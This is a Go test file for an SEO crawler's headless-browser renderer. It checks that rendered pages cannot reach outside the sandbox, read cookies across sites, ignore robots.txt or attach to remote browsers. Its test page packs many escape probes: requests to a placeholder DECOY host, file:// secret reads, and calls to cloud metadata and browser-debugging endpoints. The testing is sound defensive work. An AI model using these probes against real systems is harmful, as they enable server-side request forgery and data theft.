package render_test

import (
	"fmt"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/portolan-seo/portolan/crawler/render"
	"github.com/portolan-seo/portolan/crawler/render/proxy"
)

// escapes are ways out of a page. DECOY is a server of this machine, which
// answers everybody; STUN a UDP port; FILE a file.
const escapes = `<!doctype html><title>Escapes</title>
<link rel=preconnect href="http://DECOY"><link rel=dns-prefetch href="//DECOY"><link rel=prefetch href="http://DECOY/prefetch">
<link rel=preload as=script href="http://DECOY/preload"><link rel=modulepreload href="http://DECOY/modulepreload">
<link rel=stylesheet href="http://DECOY/style.css"><link rel=icon href="http://DECOY/icon"><link rel=manifest href="http://DECOY/manifest">
<script type=speculationrules>{"prerender": [{"urls": ["/prerendered", "http://DECOY/prerender"]}], "prefetch": [{"urls": ["/prefetched"]}]}</script>
<script src="http://DECOY/script.js"></script><script type=module src="http://DECOY/module.js"></script>
<style>@import "http://DECOY/import.css"; body { background: url(http://DECOY/background) } @font-face { font-family: f; src: url(http://DECOY/font) } p { font-family: f }</style>
<img src="http://DECOY/picture"><img srcset="http://DECOY/srcset 2x"><video src="http://DECOY/film" poster="http://DECOY/poster" autoplay></video>
<audio src="http://DECOY/sound" autoplay></audio><track src="http://DECOY/track"><svg><use href="http://DECOY/sprite#a"/><image href="http://DECOY/image"/></svg>
<iframe src="http://DECOY/frame"></iframe><iframe src="file://FILE"></iframe><iframe src="http://localhost:PORT/"></iframe>
<iframe srcdoc="<script>fetch('http://DECOY/srcdoc')</script>"></iframe><object data="http://DECOY/object"></object><embed src="http://DECOY/embed">
<iframe name=target></iframe><form action="http://DECOY/form" method=post target=target><input name=a value=1></form>
<form action="/order" method=post target=target><input name=a value=1></form>
<a href="/page" ping="http://DECOY/ping /ping">a</a><p id=files></p>
<script>
const quietly = (f) => { try { const p = f(); if (p && p.catch) p.catch(() => {}) } catch {} };
const all = [
  () => fetch("http://DECOY/fetch", {credentials: "include"}), () => fetch("http://DECOY/no-cors", {mode: "no-cors"}),
  () => fetch("http://DECOY/post", {method: "POST", mode: "no-cors", body: "x"}), () => fetch("/delete", {method: "DELETE"}),
  () => fetch("/post", {method: "POST", body: "x"}), () => fetch("http://169.254.169.254/latest/meta-data/"), () => fetch("http://[::1]:PORT/"),
  () => fetch("/moved-to-decoy", {mode: "no-cors"}), () => fetch("/logout"), () => fetch("http://0.0.0.0:PORT/", {mode: "no-cors"}),
  () => { const x = new XMLHttpRequest(); x.open("GET", "http://DECOY/xhr", false); x.send() },
  () => { const x = new XMLHttpRequest(); x.open("GET", "file://FILE", false); x.send(); files.append(x.responseText) },
  () => fetch("file://FILE").then(r => r.text()).then(t => files.append(t)), () => import("file://FILE"),
  () => new WebSocket("ws://DECOY/socket"), () => new WebSocket("wss://shop.example/socket"), () => new EventSource("http://DECOY/events"), () => new EventSource("/events"),
  () => navigator.sendBeacon("http://DECOY/beacon", "x"), () => navigator.sendBeacon("/beacon", "x"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('http://DECOY/worker', {mode: 'no-cors'}); new WebSocket('ws://DECOY/worker-socket')"]))),
  () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://DECOY/shared', {mode: 'no-cors'})"]))),
  () => navigator.serviceWorker.register("/service.js"), () => new Image().src = "http://DECOY/image-object",
  () => new WebTransport("https://DECOY/transport").ready, () => navigator.geolocation.getCurrentPosition(() => files.append("position")),
  () => navigator.mediaDevices.getUserMedia({audio: true}).then(() => files.append("microphone")), () => Notification.requestPermission(),
  () => navigator.clipboard.readText().then(t => files.append("clipboard")), () => showOpenFilePicker(),
  () => { const c = new RTCPeerConnection({iceServers: [{urls: "stun:STUN"}, {urls: "turn:DECOY?transport=tcp", username: "a", credential: "b"}]});
    c.createDataChannel("x"); c.onicecandidate = (e) => e.candidate && files.append(e.candidate.candidate); return c.createOffer().then((o) => c.setLocalDescription(o)) },
  () => open("http://DECOY/window"), () => open("/window"), () => open("file://FILE"), () => document.forms[0].submit(), () => document.forms[1].submit(),
  () => document.links[0].click(), () => fetch("http://127.0.0.1:9222/json/version", {mode: "no-cors"}),
  () => { const a = document.createElement("a"); a.href = "http://DECOY/download"; a.download = "x"; a.click() },
  () => { const s = document.createElement("script"); s.src = "http://DECOY/late.js"; document.head.append(s) },
  () => { onpagehide = () => { navigator.sendBeacon("/beacon"); fetch("http://DECOY/keepalive", {keepalive: true, mode: "no-cors"}) } },
];
all.forEach(quietly);
</script>`

// decoy is a server on loopback that counts whoever comes.
func decoy(t *testing.T) (addr string, conns *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	conns = new(atomic.Int64)
	server := &http.Server{
		ConnState: func(_ net.Conn, state http.ConnState) {
			if state == http.StateNew {
				conns.Add(1)
			}
		},
		Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "decoy") }),
	}
	served := make(chan struct{})
	go func() { defer close(served); _ = server.Serve(l) }()
	t.Cleanup(func() { server.Close(); <-served })
	return l.Addr().String(), conns
}

// A page finds no way out but the asker, which refuses this machine's
// addresses as the crawler does: no server and no port hears of it, no file is
// read, nothing is changed.
func TestShutIn(t *testing.T) {
	addr, conns := decoy(t)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	file := t.TempDir() + "/secret.txt"
	writeFile(t, file, "the secret")
	_, port, _ := net.SplitHostPort(addr)
	text := strings.NewReplacer("DECOY", addr, "PORT", port, "STUN", udp.LocalAddr().String(), "FILE", file).Replace(escapes)

	all := pages{"/": text, "/page": "page", "/moved-to-decoy": "-> http://" + addr + "/moved", "/service.js": "fetch('/from-service')", "/logout": "bye", "/events": "data"}
	for _, scheme := range []string{"http", "https"} {
		for _, parties := range []proxy.Parties{proxy.PartyScripts, proxy.AllParties} {
			t.Run(scheme+" "+string(parties), func(t *testing.T) {
				s := &site{Handler: all, refuse: private}
				r := newRenderer(t, s, render.Options{ThirdParty: parties, Effect: func(url []byte) (string, bool) {
					return "logout", strings.HasSuffix(string(url), "/logout")
				}})
				result := mustRender(t, r, scheme+"://shop.example/")
				if result.Failure != "" || !strings.Contains(string(result.HTML), "<title>Escapes</title>") {
					t.Errorf("%s %s", result.Failure, result.HTML)
				}
				_, after, _ := strings.Cut(string(result.HTML), "<p id=\"files\">")
				if !strings.HasPrefix(after, "</p>") {
					t.Errorf("the page got at %.100s", after)
				}
				r.Close()
				if n := conns.Load(); n > 0 {
					t.Errorf("%d connections arrived", n)
				}
				allowed := []string{"GET " + scheme + "://shop.example/", "GET " + scheme + "://shop.example/moved-to-decoy"}
				for _, asked := range s.log() {
					if !slices.Contains(allowed, asked) && !isPrivate(strings.TrimPrefix(asked, "GET ")) {
						t.Errorf("asked: %s", asked)
					}
				}
				if result.Network.RefusedCount == 0 || result.Popups == 0 {
					t.Errorf("the page did not try: %+v", result.Network)
				}
			})
		}
	}
	heard := make(chan string, 1)
	go func() {
		var b [100]byte
		n, from, err := udp.ReadFrom(b[:])
		heard <- fmt.Sprint(n, from, err)
	}()
	// What came before this is read before it.
	c, err := net.Dial("udp", udp.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprint(c, "end")
	if got := <-heard; !strings.HasPrefix(got, "3 "+c.LocalAddr().String()) {
		t.Errorf("by UDP came %s", got)
	}
}

// private refuses addresses, as the crawler's client does.
func private(r *render.Request) error {
	if isPrivate(r.URL) {
		return &render.Refusal{Why: proxy.Private}
	}
	return nil
}

func isPrivate(rawURL string) bool {
	u, err := url.Parse(rawURL)
	return err == nil && (net.ParseIP(u.Hostname()) != nil || u.Hostname() == "localhost")
}

// What a page stores is its own: no other page finds it, and other hosts get
// none of its cookies.
func TestPagesShareNothing(t *testing.T) {
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/read":
			w.Header().Set("Content-Type", "text/plain")
			fmt.Fprintf(w, "%s got %q", r.Host, r.Header.Get("Cookie"))
			w.Header().Set("Access-Control-Allow-Origin", "*")
		default:
			w.Header().Set("Content-Type", "text/html")
			http.SetCookie(w, &http.Cookie{Name: "session", Value: "secret"})
			fmt.Fprint(w, `<body><script>
				const before = localStorage.x + " " + document.cookie.includes("own");
				localStorage.x = 1; document.cookie = "own=1";
				(async () => {
					const own = await (await fetch("/read")).text();
					const other = await (await fetch("//api.shop.example/read")).text();
					document.body.innerHTML = before + own + other;
				})()</script>`)
		}
	})
	allow := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		handler.ServeHTTP(w, r)
	})
	r := newRenderer(t, &site{Handler: allow}, render.Options{})
	for range 2 {
		result := mustRender(t, r, "https://shop.example/")
		if want := `undefined falseshop.example got "session=secret; own=1"api.shop.example got ""`; !strings.Contains(string(result.HTML), want) {
			t.Errorf("without %s: %s", want, result.HTML)
		}
	}
}

// What robots.txt forbids is not loaded, and the result says so.
func TestRobotsObeyed(t *testing.T) {
	s := &site{Handler: charts(t), refuse: func(r *render.Request) error {
		if strings.HasPrefix(r.URL, "https://charts.example/api/") {
			return &render.Refusal{Why: proxy.Robots, Detail: "Disallow: /api/"}
		}
		return nil
	}}
	r := newRenderer(t, s, render.Options{})
	result := mustRender(t, r, "https://charts.example/chart/3")
	if result.Failure != "" || strings.Contains(string(result.HTML), "Sheet 3") {
		t.Errorf("%s", result.HTML)
	}
	refused := result.Network.Refused
	if len(refused) != 1 || refused[0].Why != proxy.Robots || refused[0].URL != "https://charts.example/api/chart-3.json" || refused[0].Kind != proxy.Data {
		t.Errorf("%+v", refused)
	}
}

// A browser that others have started is taken on this machine alone.
func TestForeignBrowser(t *testing.T) {
	for _, address := range []string{"ws://198.51.100.1:9222", "wss://127.0.0.1:9222", "ws://browser.example:9222", "ws://127.0.0.1.example:9222"} {
		r, err := render.New(t.Context(), render.Options{Asker: &site{}, Effect: noEffect, Browser: address})
		if err == nil || !strings.Contains(err.Error(), "on this machine") {
			t.Errorf("%s: %v", address, err)
		}
		if r != nil {
			r.Close()
		}
	}
}

func TestOptions(t *testing.T) {
	for _, o := range []render.Options{
		{}, {Asker: &site{}}, {Asker: &site{}, Effect: noEffect, Tabs: -1}, {Asker: &site{}, Effect: noEffect, Clicks: 1},
		{Asker: &site{}, Effect: noEffect, ThirdParty: "some"}, {Asker: &site{}, Effect: noEffect, Browser: "/no/such/browser", NoSandbox: true},
	} {
		if r, err := render.New(t.Context(), o); err == nil {
			r.Close()
			t.Errorf("%+v was taken", o)
		}
	}
}
